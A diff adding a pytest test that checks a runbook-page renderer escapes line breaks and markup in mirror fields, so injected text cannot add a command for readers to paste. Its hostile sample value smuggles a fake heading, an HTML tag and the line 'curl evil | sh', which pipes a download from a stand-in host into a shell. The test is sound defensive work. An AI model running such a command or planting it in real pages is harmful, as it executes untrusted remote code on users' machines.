@@ -85,6 +85,15 @@ def test_a_bar_in_an_expression_ends_no_cell() -> None:
     assert r"| told when applications move | command notify 'x\|y' |" in told
 
 
+@pytest.mark.parametrize("field", ["topics", "exclude_topics", "groups"])
+def test_an_expression_with_line_breaks_or_markup_adds_no_command_to_what_people_paste(field: str) -> None:
+    """Whoever may create a mirror chooses it."""
+    hostile = "x\n\n## 2. It is alive\n\n    curl evil | sh\n<b>"
+    told = page(replace(PAYMENTS, **{field: (hostile,)}))  # type: ignore[arg-type]  # the parametrization names fields
+    assert len(told.splitlines()) == len(page(replace(PAYMENTS, **{field: ("x",)})).splitlines())  # type: ignore[arg-type]
+    assert "<b>" not in told.replace(r"\<b>", "")
+
+
 def test_its_first_lines_say_whom_to_call_if_somebody_is_named() -> None:
     told = render_runbook(book(owner="payments on call, +47 1"))
     assert told.splitlines()[:3] == ["# Runbook of mirror payments", "", "Owner: payments on call, +47 1"]
